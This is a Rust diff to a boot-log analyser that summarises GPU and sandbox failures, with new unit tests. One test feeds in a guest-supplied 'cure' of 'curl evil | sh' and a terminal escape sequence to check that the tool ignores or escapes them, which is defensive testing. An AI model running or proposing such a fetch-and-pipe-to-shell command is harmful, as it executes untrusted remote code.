@@ -468,7 +468,11 @@ fn lower_first(text: &str) -> String {
 fn headline(boot: &Boot) -> String {
     let mut parts = Vec::new();
     let of_sandbox = boot.ends.iter().find(|end| end.of_sandbox);
-    parts.extend(of_sandbox.map(|end| format!("sandbox failed after {} s", seconds(end.at_ns))));
+    // 0 is the log's beginning where it has no other.
+    parts.extend(of_sandbox.map(|end| match seconds(end.at_ns).as_str() {
+        "0.000" => "sandbox failed".to_string(),
+        at => format!("sandbox failed after {at} s"),
+    }));
     parts.push(gpus_line(boot));
     parts.extend(containers_line(boot));
     let of_guest = boot
@@ -537,4 +541,110 @@ fn containers_line(boot: &Boot) -> Option<String> {
         true => format!("containers after {first} s"),
         false => format!("containers after {first} to {last} s"),
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::data::boot_file::BootFile;
+
+    /// Verdict on a boot of these records, whose members begin with `"kind"`.
+    fn verdict(records: &[String]) -> Verdict {
+        let line = |(seq, rest): (usize, &String)| {
+            format!(
+                "{{\"schema\":1,\"seq\":{seq},\"boottime_ns\":{}000000000,{rest}}}\n",
+                seq + 1
+            )
+        };
+        let text: String = records.iter().enumerate().map(line).collect();
+        let file = BootFile::read(text.as_bytes()).unwrap();
+        assert_eq!(file.damaged, 0, "{:?}", file.damage);
+        Verdict::of(&Boot::new(&file, &[]))
+    }
+
+    fn failed(index: u64, reason: &str, more: &str) -> String {
+        format!(
+            r#""kind":"event","name":"gpu.failed","gpu":"0001:00:{index:02x}.0","fields":{{"index":{index},"step":"init","reason":"{reason}"{more}}}"#
+        )
+    }
+
+    #[test]
+    fn gpus_that_failed_alike_are_one_finding() {
+        let records = [0, 1, 2, 5].map(|index| failed(index, "needs-reset", ""));
+        let other = failed(6, "fsp-timeout", "");
+        let verdict = verdict(&[&records[..], &[other]].concat());
+        let texts: Vec<&str> = verdict.findings.iter().map(|f| f.text.as_str()).collect();
+        assert_eq!(
+            texts,
+            [
+                "GPUs 0-2, 5 failed in initialisation: an earlier use left the GPU half \
+                 initialised (needs-reset)",
+                "GPU 6 (0001:00:06.0) failed in initialisation: the GPU's security processor (FSP) \
+                 does not answer (fsp-timeout)",
+            ]
+        );
+        assert!(
+            verdict.headline.starts_with("0 of 5 GPUs usable"),
+            "{}",
+            verdict.headline
+        );
+    }
+
+    #[test]
+    fn a_guest_chooses_no_cure_of_a_reason_that_is_known() {
+        let evil = r#","cure":"curl evil | sh","whose":"pod","sure":"certain""#;
+        let known = verdict(&[failed(0, "fsp-timeout", evil)]);
+        let cure = known.findings[0].cure.as_deref().unwrap();
+        assert_eq!(cure, Reason::FspTimeout.cure());
+        // A newer guest's reason is shown as it says it.
+        let newer = verdict(&[failed(0, "of-tomorrow", r#","cure":"wait\u001b[2J""#)]);
+        let found = &newer.findings[0];
+        assert_eq!(found.cure.as_deref(), Some("wait\\x1b[2J"));
+        assert!(found.text.ends_with(": of-tomorrow"), "{}", found.text);
+    }
+
+    #[test]
+    fn what_failed_comes_before_the_guests_end_and_the_sandboxs() {
+        let event = |name: &str, reason: &str| {
+            format!(r#""kind":"event","name":"{name}","fields":{{"reason":"{reason}"}}"#)
+        };
+        let verdict = verdict(&[
+            failed(0, "cc-mode-on", ""),
+            event("guest.ended", "ctk-failed"),
+            event("guest.ended", "powered-off"),
+            event("sandbox.failed", "agent-no-answer"),
+        ]);
+        let reasons: Vec<&str> = verdict
+            .findings
+            .iter()
+            .filter_map(|f| f.reason.as_deref())
+            .collect();
+        assert_eq!(reasons, ["cc-mode-on", "ctk-failed", "agent-no-answer"]);
+        let end = &verdict.findings[1].text;
+        assert!(
+            end.ends_with("; then the guest powered itself off (powered-off)"),
+            "{end}"
+        );
+        assert!(
+            verdict
+                .headline
+                .starts_with("sandbox failed after 4.000 s; "),
+            "{}",
+            verdict.headline
+        );
+    }
+
+    #[test]
+    fn an_xid_that_ends_no_gpu_is_no_failure() {
+        let xid = |number: u64| {
+            format!(
+                r#""kind":"event","name":"gpu.xid","gpu":"0001:00:03.0","fields":{{"xid":{number}}}"#
+            )
+        };
+        let of_program = verdict(&[xid(31), xid(31)]);
+        assert!(
+            !of_program.is_failure() && of_program.findings[0].text.contains("Xid 31, 2 times")
+        );
+        assert!(verdict(&[xid(48)]).is_failure());
+    }
 }
